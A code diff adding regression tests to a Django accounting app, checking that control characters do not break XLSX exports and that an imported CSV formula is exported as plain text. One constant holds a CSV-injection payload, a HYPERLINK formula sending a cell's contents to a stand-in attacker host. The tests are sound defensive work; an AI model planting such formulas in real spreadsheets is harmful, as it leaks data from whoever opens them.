@@ -432,3 +432,58 @@ def test_an_accountant_sees_nothing_of_another_accountants_client(world):
         body = b"".join(response.streaming_content) if response.streaming else response.content
         if not url.endswith("xlsx"):
             assert b"Segreto Leak" not in body and b"leak-marker-box" not in body, url
+
+
+# --------------------------------------------------------------------------- what comes back out
+
+
+def _export(client, url) -> bytes:
+    response = client.get(url)
+    assert response.status_code == 200, url
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def test_control_characters_a_form_took_do_not_break_the_xlsx_exports(world):
+    """The holder form takes a control character (only NUL is refused): the holders' and the
+    boxes' XLSX export then failed for the whole office (openpyxl refuses it: a server
+    error)."""
+    from openpyxl import load_workbook
+
+    from mailboxes.models import Titolare
+
+    Titolare.objects.filter(pk=world.titolare.pk).update(denominazione="Segreto\x01 Leak\x1b Srl")
+    client = client_for(world.office)
+    for url in ("/portafoglio/esporta/titolari/?formato=xlsx",
+                "/portafoglio/esporta/caselle/?formato=xlsx"):  # fmt: skip
+        sheet = load_workbook(io.BytesIO(_export(client, url))).active
+        values = [c.value for row in sheet.iter_rows() for c in row]
+        assert "Segreto Leak Srl" in values, url
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A2;"Apri")'
+
+
+def test_a_formula_imported_as_a_holders_name_is_text_in_the_exports(world):
+    """A CSV cell "=HYPERLINK(...)" is imported as the text it is; exported, it was a live
+    formula in the XLSX (openpyxl writes a text starting with "=" as one) and in the CSV Excel
+    opens. Now it is text in both, and the CSV imports back as it was exported."""
+    from openpyxl import load_workbook
+
+    from mailboxes.models import Titolare
+    from portfolio.services import importing
+
+    header = ";".join(importing.template_rows()[0])
+    row = f'IM;SI;"{FORMULA.replace(chr(34), chr(34) * 2)}";;;12345670017;12345670017;Via Roma 1;00184;Roma;RM;IT'
+    client = client_for(world.office)
+    client.post("/portafoglio/importa/", {"file": SimpleUploadedFile("a.csv", (header + "\n" + row).encode())})
+    client.post("/portafoglio/importa/", {"modo": "tutto"})
+    assert Titolare.objects.filter(denominazione=FORMULA).exists()
+
+    sheet = load_workbook(io.BytesIO(_export(client, "/portafoglio/esporta/titolari/?formato=xlsx"))).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+    exported = _export(client, "/portafoglio/esporta/titolari/")
+    assert f"'{FORMULA}".replace('"', '""').encode() in exported
+    again = importing.preview(exported)
+    assert FORMULA in [r.data.get("denominazione") for r in again.rows]
